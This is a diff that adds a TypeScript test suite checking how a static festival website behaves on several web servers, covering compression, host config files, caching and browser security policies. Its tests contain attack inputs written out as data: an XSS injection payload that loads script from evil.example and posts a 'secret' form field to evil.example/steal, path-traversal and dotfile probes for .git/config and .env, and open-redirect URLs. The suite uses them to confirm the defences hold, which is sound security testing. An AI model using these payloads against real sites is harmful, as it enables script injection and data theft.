@@ -1,0 +1,239 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { brotliDecompressSync, gunzipSync } from 'node:zlib';
+import { type Browser, chromium } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
+import { examine } from '../static/doctor';
+import { ask } from '../static/hosting/ask';
+import { promises } from '../static/hosting/promises';
+import { pages } from '../templates/pages';
+import { findBrowser } from './browser';
+import { browse, infect, readThrough } from './servers/browse';
+import { type Host, hosts } from './servers/hosts';
+import { servable } from './servers/site';
+import type { Server } from './servers/start';
+
+const ci = process.env.CI === 'true';
+const missing = Object.entries(hosts).filter(([, { there }]) => !there);
+if (missing.length && !ci)
+  console.warn(`skipped, because the server is not installed: ${missing.map(([name]) => name).join(' · ')}`);
+
+/** In CI a missing server is a failure; elsewhere its tests are skipped. */
+const skips = ({ there }: Host) => !there && !ci;
+
+const { root, remove } = servable(inject('site'));
+afterAll(remove);
+
+test('every twin is its file, unpacked, and smaller; PDF, fonts and pictures of dots have none', () => {
+  const entries = readdirSync(root, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
+  const files = entries.map((entry) => join(entry.parentPath, entry.name));
+  const twins = files.filter((file) => /\.(br|gz)$/.test(file));
+  for (const file of twins) {
+    const data = readFileSync(file);
+    const whole = readFileSync(file.slice(0, -3));
+    expect((file.endsWith('.br') ? brotliDecompressSync : gunzipSync)(data).equals(whole), file).toBe(true);
+    expect(data.length, file).toBeLessThan(whole.length);
+  }
+  const kinds = new Set(twins.map((file) => file.split('.').at(-2)));
+  expect([...kinds].sort()).toEqual(['html', 'js', 'svg', 'txt', 'webmanifest', 'xml']);
+});
+
+test('the files for Netlify and Cloudflare Pages keep within what these read', () => {
+  const read = (name: string) =>
+    readFileSync(join(root, 'shcaifest/hosting/root', name), 'utf8')
+      .trim()
+      .split('\n');
+  const lines = read('_headers');
+  expect(Math.max(...lines.map((line) => line.length))).toBeLessThan(2000);
+  const rules = lines.filter((line) => line.startsWith('/'));
+  expect(rules.length).toBeLessThan(100);
+  expect(rules).toEqual([...new Set(rules)]);
+  expect(rules).toEqual(expect.arrayContaining(Object.values(pages).map(({ path }) => `/shcaifest${path}`)));
+  for (const line of read('_redirects').slice(1)) expect(line).toMatch(/^\/\S* \/shcaifest\/\S* 30[12]$/);
+});
+
+describe.concurrent('a host keeps every promise but those that it cannot', () => {
+  const rows: Record<string, string[]> = {};
+
+  for (const [name, host] of Object.entries(hosts))
+    test.skipIf(skips(host))(name, async () => {
+      await using server = await started(host);
+      const findings = await examine(`${server.origin}/shcaifest/`);
+      rows[name] = findings.map(({ wrong }) => (wrong.length ? '–' : 'yes'));
+      // Where the pages are refused, nothing else can be right either.
+      const refused = host.lacks.includes('pages');
+      const broken = findings.filter(({ wrong, grave }) => wrong.length && (grave || !refused));
+      const expected = Object.keys(promises).filter((promise) => host.lacks.includes(promise));
+      expect(
+        broken.map(({ promise }) => promise),
+        broken.flatMap(({ wrong }) => wrong).join('\n'),
+      ).toEqual(expected);
+    });
+
+  afterAll(() => {
+    const line = (cells: string[]) => `| ${cells.join(' | ')} |\n`;
+    const names = ['host', ...Object.keys(promises)];
+    const table = Object.keys(hosts).map((name) => (rows[name] ? line([name, ...rows[name]]) : ''));
+    process.stdout.write(`\n${line(names)}${line(names.map(() => '---'))}${table.join('')}\n`);
+  });
+});
+
+describe.each(['Apache, FileInfo', 'nginx, nginx.conf'])('%s', (name) => {
+  const host = hosts[name] as Host;
+  let server: Server;
+  beforeAll(async () => {
+    if (!skips(host)) server = await host.start(root);
+  });
+  afterAll(() => server?.close());
+  const status = async (path: string) => (await ask(`${server.origin}${path}`)).status;
+
+  test.skipIf(skips(host))('shows nothing that starts with a dot, however it is asked for', async () => {
+    for (const path of ['.git/config', '.env', '.htaccess', '%2egit/config', 'About/..%2f.env', '.git', 'assets//.x'])
+      expect(await status(`/shcaifest/${path}`), path).toBe(404);
+  });
+
+  test.skipIf(skips(host))('says Vary with the plain file as well, and once', async () => {
+    for (const path of ['/shcaifest/', '/shcaifest/sitemap.xml'])
+      for (const coding of ['', 'gzip', 'br'])
+        expect((await ask(server.origin + path, { 'accept-encoding': coding })).headers.vary).toBe('Accept-Encoding');
+  });
+
+  test.skipIf(skips(host))('keeps every visitor on the host that was asked', async () => {
+    for (const path of [
+      '/shcaifest//evil.example/%2e%2e/About',
+      '/shcaifest/About',
+      '//evil.example/shcaifest/about',
+    ]) {
+      const { location = '' } = (await ask(server.origin + path)).headers;
+      expect(new URL(location, server.origin).origin, path).toBe(server.origin);
+    }
+  });
+
+  test.skipIf(skips(host))('remembers a redirect for an hour, and a missing file not at all', async () => {
+    expect((await ask(`${server.origin}/shcaifest/about`)).headers['cache-control']).toBe('max-age=3600');
+    const gone = await ask(`${server.origin}/shcaifest/assets/main-AAAAAAAA.js`);
+    expect([gone.status, gone.headers['cache-control']]).toEqual([404, 'no-cache']);
+  });
+});
+
+test.skipIf(skips(hosts['Apache, FileInfo'] as Host))(
+  'Apache behind a proxy that ends TLS stays with https',
+  async () => {
+    await using server = await started(hosts['Apache, FileInfo'] as Host);
+    const { headers } = await ask(`${server.origin}/shcaifest/about?a=1`, {
+      'x-forwarded-proto': 'https',
+      host: 'fest.example',
+    });
+    expect(headers.location).toBe('https://fest.example/shcaifest/About/?a=1');
+  },
+);
+
+describe.each(['Apache, FileInfo', 'nginx, nginx.conf', 'http-server'])('in a browser, on %s', (name) => {
+  const host = hosts[name] as Host;
+  let server: Server;
+  let browser: Browser;
+  beforeAll(async () => {
+    if (skips(host)) return;
+    server = await host.start(root);
+    browser = await chromium.launch({ executablePath: await findBrowser(), args: ['--no-sandbox', '--disable-gpu'] });
+  });
+  afterAll(async () => {
+    await browser?.close();
+    await server?.close();
+  });
+  const open = () => browse(browser, server.origin);
+  const home = () => `${server.origin}/shcaifest/`;
+
+  test.skipIf(skips(host)).each(Object.values(pages).map(({ path }) => path))('%s breaks no policy', async (path) => {
+    const { page, violations, trouble } = await open();
+    await page.goto(server.origin + join('/shcaifest', path));
+    await readThrough(page);
+    expect({ violations, trouble }).toEqual({ violations: [], trouble: [] });
+    await page.context().close();
+  });
+
+  test.skipIf(skips(host))('what somebody gets into a page does nothing', async () => {
+    const { page, violations, foreign } = await open();
+    await infect(
+      page,
+      home(),
+      `<script>hacked = 1</script><img src="data:," onerror="hacked = 2"><style>body { display: none }</style>
+      <script src="https://evil.example/x.js"></script><iframe src="https://evil.example/frame"></iframe>
+      <base href="https://evil.example/"><object data="https://evil.example/o"></object>
+      <a id="attack" href="javascript:void(hacked = 3)">x</a>
+      <form id="leak" action="https://evil.example/steal"><input name="a" value="secret"></form>`,
+    );
+    await page.goto(home());
+    await page.locator('#attack').evaluate((link: HTMLElement) => link.click());
+    await page.locator('#leak').evaluate((form: HTMLFormElement) => form.submit());
+    await page.waitForTimeout(300);
+    expect(page.url()).toBe(home());
+    expect(await page.evaluate('typeof hacked')).toBe('undefined');
+    expect(await page.evaluate(() => [getComputedStyle(document.body).display !== 'none', document.baseURI])).toEqual([
+      true,
+      home(),
+    ]);
+    expect(foreign.filter((url) => url.includes('evil.example'))).toEqual([]);
+    const refused = new Set(violations.map((violation) => violation.split(' ')[0]));
+    for (const directive of [
+      'script-src-elem',
+      'script-src-attr',
+      'style-src-elem',
+      'frame-src',
+      'base-uri',
+      'object-src',
+      'form-action',
+    ])
+      expect(refused).toContain(directive);
+    await page.context().close();
+  });
+
+  test.skipIf(skips(host))('our own forms send nothing, even by script', async () => {
+    const { page } = await open();
+    await page.goto(`${home()}Contact/`, { waitUntil: 'networkidle' });
+    const asked: string[] = [];
+    page.on('request', (request) => asked.push(request.url()));
+    await page
+      .locator('form')
+      .first()
+      .evaluate((form: HTMLFormElement) => form.submit());
+    await page.waitForTimeout(200);
+    expect(page.url()).toBe(`${home()}Contact/`);
+    expect(asked).toEqual([]);
+    await page.context().close();
+  });
+
+  test.skipIf(skips(host))('a string never becomes markup or script', async () => {
+    const { page } = await open();
+    await page.goto(home());
+    const attempts: (() => unknown)[] = [
+      () => Object.assign(document.body, { innerHTML: '<b>x</b>' }),
+      () => Object.assign(document.createElement('script'), { src: '/shcaifest/assets/x.js' }),
+      () => Object.assign(document.createElement('iframe'), { srcdoc: '<script>1</script>' }),
+      () => new Worker('/shcaifest/assets/x.js'),
+      () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
+    ];
+    for (const attempt of attempts) await expect(page.evaluate(attempt), `${attempt}`).rejects.toThrow('Trusted');
+    await page.context().close();
+  });
+
+  test.skipIf(skips(host))(
+    `another site ${host.lacks.includes('policy') ? 'may (there are no headers)' : 'may not'} frame a page`,
+    async () => {
+      const { page } = await open();
+      await page.route(`${server.origin}/frame`, (route) =>
+        route.fulfill({ contentType: 'text/html', body: `<iframe src="${home()}About/"></iframe>` }),
+      );
+      await page.goto(`${server.origin}/frame`);
+      await page.waitForTimeout(300);
+      const title = await page.frames()[1]?.title();
+      expect(Boolean(title?.includes('AI Fest'))).toBe(host.lacks.includes('policy'));
+      await page.context().close();
+    },
+  );
+});
+
+async function started(host: Host): Promise<Server & AsyncDisposable> {
+  const server = await host.start(root);
+  return { ...server, [Symbol.asyncDispose]: () => server.close() };
+}
